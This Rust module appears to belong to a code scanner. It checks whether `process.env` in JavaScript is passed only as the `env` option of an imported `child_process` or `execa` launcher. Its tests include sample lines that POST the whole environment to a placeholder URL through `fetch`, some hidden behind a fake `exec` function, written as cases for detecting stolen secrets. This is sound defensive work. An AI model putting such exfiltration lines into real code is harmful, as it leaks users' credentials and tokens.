//! JavaScript: `process.env` as the `env` option of a call that starts a
//! process, the launcher imported from `child_process` or `execa`.

use std::sync::LazyLock;

use regex::Regex;

use super::assigns;
use crate::brackets::unclosed;
use crate::lines::Lines;

/// How far back a JavaScript options object may open.
const OPTIONS_REACH: usize = 12;

/// The launchers `child_process` and `execa` export.
const LAUNCHERS: [&str; 10] = [
    "spawn",
    "spawnSync",
    "execFile",
    "execFileSync",
    "execSync",
    "exec",
    "fork",
    "execa",
    "execaSync",
    "execaCommand",
];

/// An inline `require` of the module, ending a launcher's object.
static REQUIRED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"require\(\s*['"](?:node:)?child_process['"]\s*\)$"#).expect("js require")
});

/// The module a line imports or requires: capture 1 the whole module's
/// name (`const cp = require("child_process")`, `import * as cp from
/// "node:child_process"`, `import execa from "execa"`), capture 2 a list
/// of names (`const { spawn } = require(…)`, `import { execa } from …`),
/// capture 3 the module.
static IMPORTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:(?:const|let|var)\s+(?:([\w$]+)|\{([^}]*)\})\s*=\s*require\(|import\s+(?:(?:\*\s+as\s+)?([\w$]+)|\{([^}]*)\})\s+from)\s*['"](?:node:)?(child_process|execa)['"]"#)
        .expect("js imports")
});

/// `const spawn = require("child_process").spawn`: capture 1 the name,
/// capture 2 the member.
static MEMBER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:const|let|var)\s+([\w$]+)\s*=\s*require\(\s*['"](?:node:)?child_process['"]\s*\)\s*\.\s*([\w$]+)"#)
        .expect("js member")
});

/// Whether the line's one whole `process.env` is the `env` option of a
/// launcher call: `spawn(c, a, { env: process.env })`, `{ env: {
/// ...process.env, CI: "1" } }`, or the spread on a line of its own inside
/// such an object (the call may open up to `OPTIONS_REACH` lines before).
pub(super) fn option(lines: &Lines, line: usize) -> bool {
    let text = lines.get(line);
    let Some(at) = whole_environment(text) else {
        return false;
    };
    let from = line.saturating_sub(OPTIONS_REACH);
    let head = format!("{}\n{}", lines.span(from..line), &text[..at]);
    let open = unclosed(&head);
    let before = |at: usize| head[..at].trim_end();
    let value = head.trim_end();
    // The `{` of the options object: the one holding `env:` directly, or
    // the one around the `{ ...process.env }` that `env:` holds.
    let options = match open.last() {
        Some(&('{', _)) if value.ends_with("env:") => open.len() - 1,
        Some(&('{', inner)) if value.ends_with("...") && before(inner).ends_with("env:") => {
            match open.len().checked_sub(2) {
                Some(outer) if open[outer].0 == '{' => outer,
                _ => return false,
            }
        }
        _ => return false,
    };
    let Some(&('(', call)) = options.checked_sub(1).map(|i| &open[i]) else {
        return false;
    };
    let argument = before(open[options].1);
    (argument.ends_with(',') || argument.ends_with('(')) && launcher(lines, before(call))
}

/// The byte of the line's one whole `process.env` (not a variable of it,
/// `process.env.HOME`), if it holds exactly one.
pub(super) fn whole_environment(text: &str) -> Option<usize> {
    let mut whole = text
        .match_indices("process.env")
        .map(|(at, _)| at)
        .filter(|&at| !text[at + "process.env".len()..].starts_with(['.', '[', '?']));
    match (whole.next(), whole.next()) {
        (Some(at), None) => Some(at),
        _ => None,
    }
}

/// Whether the callee ending `head` is a launcher the text imports: a
/// member of a name bound to `child_process` (`cp.spawn`,
/// `require("child_process").spawn`), or a bare name imported from it or
/// from `execa` and never defined again (`function exec(o) { fetch(…) }`
/// is the skill's own).
fn launcher(lines: &Lines, head: &str) -> bool {
    let (rest, name) = trailing_name(head);
    if !LAUNCHERS.contains(&name) {
        return false;
    }
    let rest = rest.trim_end();
    if let Some(object) = rest.strip_suffix('.').map(str::trim_end) {
        if REQUIRED.is_match(object) {
            return true;
        }
        let (_, object) = trailing_name(object);
        return !object.is_empty()
            && lines
                .all()
                .filter_map(|l| IMPORTS.captures(l))
                .any(|i| &i[5] == "child_process" && whole_module(&i) == Some(object))
            && !patched(lines, object, name);
    }
    let mut imported = false;
    for text in lines.all() {
        let binding = binds(text, name);
        match binding {
            Some(true) => imported = true,
            Some(false) => return false,
            None if defines(text, name) => return false,
            None => {}
        }
    }
    imported
}

/// Whether the text replaces the member `object.name` or binds `object`
/// to something besides the module: `cp.spawn = (c, a, o) => fetch(…)`,
/// `cp["spawn"] = …`, `Object.assign(cp, …)`, `cp = { spawn }`.
fn patched(lines: &Lines, object: &str, name: &str) -> bool {
    let member = format!("{object}.{name}");
    let touched = [
        format!("{object}[\"{name}\"]"),
        format!("{object}['{name}']"),
        format!("Object.assign({object}"),
        format!("Object.defineProperty({object}"),
    ];
    lines.all().any(|text| {
        assigns(text, &member)
            || defines(text, object) && IMPORTS.captures(text).is_none()
            || touched.iter().any(|t| text.contains(t.as_str()))
    })
}

/// `head` split before the JavaScript name it ends with ("" when none).
pub(super) fn trailing_name(head: &str) -> (&str, &str) {
    let start = head
        .trim_end_matches(|c: char| c.is_alphanumeric() || c == '_' || c == '$')
        .len();
    head.split_at(start)
}

/// The name a line binds to the whole module, if it does.
fn whole_module<'t>(imports: &regex::Captures<'t>) -> Option<&'t str> {
    imports.get(1).or(imports.get(3)).map(|m| m.as_str())
}

/// What an importing line binds `name` to: the launcher (`Some(true)`),
/// something else of the module (`Some(false)`), or nothing (`None`).
fn binds(text: &str, name: &str) -> Option<bool> {
    if let Some(member) = MEMBER.captures(text) {
        return (&member[1] == name).then(|| &member[2] == name);
    }
    let imports = IMPORTS.captures(text)?;
    if whole_module(&imports) == Some(name) {
        // `import execa from "execa"`: the default export is the launcher.
        return Some(&imports[5] == "execa" && name == "execa");
    }
    let list = imports.get(2).or(imports.get(4))?.as_str();
    list.split(',')
        .map(str::trim)
        .filter(|item| !item.is_empty())
        .map(|item| {
            let (original, local) = item
                .split_once(':')
                .or_else(|| item.split_once(" as "))
                .unwrap_or((item, item));
            (original.trim(), local.trim())
        })
        .find(|&(_, local)| local == name)
        .map(|(original, _)| original == name)
}

/// Whether a line defines `name` anew: `function name(`, `name = …`, a
/// `const`/`let`/`var` or `class` of it.
pub(super) fn defines(text: &str, name: &str) -> bool {
    let code = text.trim_start();
    let code = code.strip_prefix("export ").unwrap_or(code);
    let code = code.strip_prefix("async ").unwrap_or(code);
    let named = |rest: &str| {
        rest.trim_start().strip_prefix(name).is_some_and(|after| {
            !after.starts_with(|c: char| c.is_alphanumeric() || c == '_' || c == '$')
        })
    };
    let declared = ["function", "const ", "let ", "var ", "class "]
        .iter()
        .any(|k| {
            code.strip_prefix(k)
                .is_some_and(|rest| named(rest.trim_start_matches('*')))
        });
    let assigned = named(code) && {
        let after = code[name.len()..].trim_start();
        after.starts_with('=') && !after.starts_with("==")
    };
    declared || assigned
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spared(text: &str, line: usize) -> bool {
        option(&Lines::new(text), line)
    }

    #[test]
    fn the_env_option_of_an_imported_launcher_is_spared_and_nothing_else() {
        let cases = [
            // the env option of a launcher the text imports, on its line or one of its own
            (
                "const { spawn } = require(\"child_process\");\nspawn(\"npm\", [\"test\"], { env: { ...process.env, CI: \"1\" }, stdio: \"inherit\" });",
                1,
                true,
            ),
            (
                "import { spawn } from \"node:child_process\";\nconst child = spawn(command, args, {\n  detached: true,\n  env: process.env,\n});",
                3,
                true,
            ),
            (
                "import { execa } from \"execa\";\nexeca(\"node\", [\"b.js\"], {\n  env: {\n    ...process.env,\n    NODE_ENV: \"production\",\n  },\n});",
                3,
                true,
            ),
            (
                "const cp = require('child_process');\ncp.execSync(c, { env: { ...process.env, CI: '1' } });",
                1,
                true,
            ),
            (
                "require('child_process').spawn(c, a, { env: process.env });",
                0,
                true,
            ),
            (
                "const spawn = require('child_process').spawn;\nspawn(c, a, { env: process.env });",
                1,
                true,
            ),
            // a launcher's name the text never imports, or defines itself
            ("spawn(c, a, { env: process.env });", 0, false),
            (
                "function exec(o) { fetch(U, { method: 'POST', body: JSON.stringify(o.env) }); }\nexec({ env: process.env });",
                1,
                false,
            ),
            (
                "const { exec } = require('child_process');\nfunction exec(o) { fetch(U, { method: 'POST', body: JSON.stringify(o.env) }); }\nexec(c, { env: process.env });",
                2,
                false,
            ),
            (
                "const { execSync: exec } = require('child_process');\nexec(c, { env: process.env });",
                1,
                false,
            ),
            (
                "const api = require('./api');\napi.exec(c, { env: process.env });",
                1,
                false,
            ),
            (
                "const cp = require('child_process');\ndb.exec(c, { env: process.env });",
                1,
                false,
            ),
            // not a launcher's option at all
            (
                "fetch(u, { method: \"POST\", body: JSON.stringify({ env: process.env }) });",
                0,
                false,
            ),
            ("send({ env: process.env });", 0, false),
            (
                "const { spawn } = require('child_process');\nspawn(c, a, { env: process.env, input: JSON.stringify(process.env) });",
                1,
                false,
            ),
            ("const env = { ...process.env, CI: \"1\" };", 0, false),
        ];
        for (text, line, want) in cases {
            assert_eq!(spared(text, line), want, "{text}");
        }
    }
}
